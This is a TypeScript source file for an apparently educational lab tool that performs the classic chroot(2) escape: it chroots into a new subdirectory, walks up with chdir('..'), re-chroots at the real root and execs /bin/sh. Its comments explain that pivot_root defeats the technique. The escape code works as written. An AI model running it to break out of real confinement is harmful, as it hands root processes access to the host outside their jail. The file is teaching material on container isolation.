// The chroot escape, in TypeScript through the FFI: why chroot(2) is not a
// jail for root, and why container runtimes use pivot_root(2).
//
//   chroot-escape [--trace] [--depth N] [PROGRAM [ARG...]]     (default: /bin/sh)
//
// chroot(2) changes the root of the calling process and nothing else: its
// working directory stays where it was. A process with CAP_SYS_CHROOT that
// chroots into a subdirectory is left with a cwd *outside* its new root, and
// ".." from there is never stopped by the root (the kernel stops ".." only
// at the process's root itself, which this walk never passes through). So:
// mkdir a directory, chroot into it, chdir("..") until the real root, then
// chroot(".") there and exec. After pivot_root(2) and unmounting the old
// root, the real root is gone from the mount namespace: the walk ends at the
// new root, and the escape finds nothing.
//
// Run it inside a root filesystem that has Node (npm run make-rootfs --
// --with-node DIR puts this program at /opt/nslab/programs/chroot-escape.cjs):
//   ts-chroot DIR /usr/local/bin/node /opt/nslab/programs/chroot-escape.cjs ls /
import { ToolSpec, value } from '../cli/options.js';
import { runTool } from '../cli/run.js';
import { callNow, makeCall } from '../syscalls/call.js';
import { UsageError } from '../cli/errors.js';
import { ERRNO } from '../syscalls/constants.js';
import { chdirCall, chrootCall } from '../syscalls/mount.js';
import { execCall, execInPlace } from '../syscalls/process.js';
import { enableTrace, q, traceLine, tracing } from '../syscalls/trace.js';

const spec: ToolSpec = {
  name: 'chroot-escape',
  usage: '[--depth N] [PROGRAM [ARG...]]',
  summary:
    'Leave a chroot(2) jail by chrooting into a subdirectory and walking ".." up, then run PROGRAM (default /bin/sh) at the real root.',
  options: [
    {
      long: 'depth',
      arg: 'required',
      value: '<n>',
      help: 'how many chdir("..") to make (default 64: more than any path is deep)',
    },
    {
      long: 'dir',
      arg: 'required',
      value: '<name>',
      help: 'the directory to make and chroot into (default .nslab-escape)',
    },
  ],
};

runTool(spec, (cmd) => {
  const depthText = value(cmd, 'depth') ?? '64';
  if (!/^\d+$/.test(depthText)) throw new UsageError(`invalid depth: '${depthText}'`);
  const depth = Number(depthText);
  const dir = value(cmd, 'dir') ?? '.nslab-escape';

  // 1. A directory to chroot into; it may be left over from an earlier run.
  const made = callNow(makeCall('mkdir', [dir, 0o755], `mkdir(${q(dir)}, 0755)`, { optional: true }));
  if (made < 0 && made !== -ERRNO.EEXIST) callNow(makeCall('mkdir', [dir, 0o755], `mkdir(${q(dir)}, 0755)`));
  // 2. chroot into it without chdir: the cwd is now outside the root.
  callNow(chrootCall(dir, `chroot(${q(dir)})`));
  // 3. Walk up. At the real root ".." is "." again, so too many steps do no harm.
  const up = chdirCall('..');
  callNow(up);
  if (depth > 1) traceLine(`... and ${depth - 1} more chdir("..")`);
  untraced(() => {
    for (let i = 1; i < depth; i++) callNow(up);
  });
  // 4. Make where we stand the root: the host's root, unless pivot_root hid it.
  callNow(chrootCall('.', 'chroot(".")'));
  callNow(chdirCall('/'));
  const argv = cmd.rest.length ? cmd.rest : ['/bin/sh'];
  return execInPlace([execCall(argv[0]!, argv)]);
});

/** Run `fn` without trace lines (the walk up is one line, not sixty-four). */
function untraced(fn: () => void): void {
  const was = tracing();
  enableTrace(false);
  try {
    fn();
  } finally {
    enableTrace(was);
  }
}
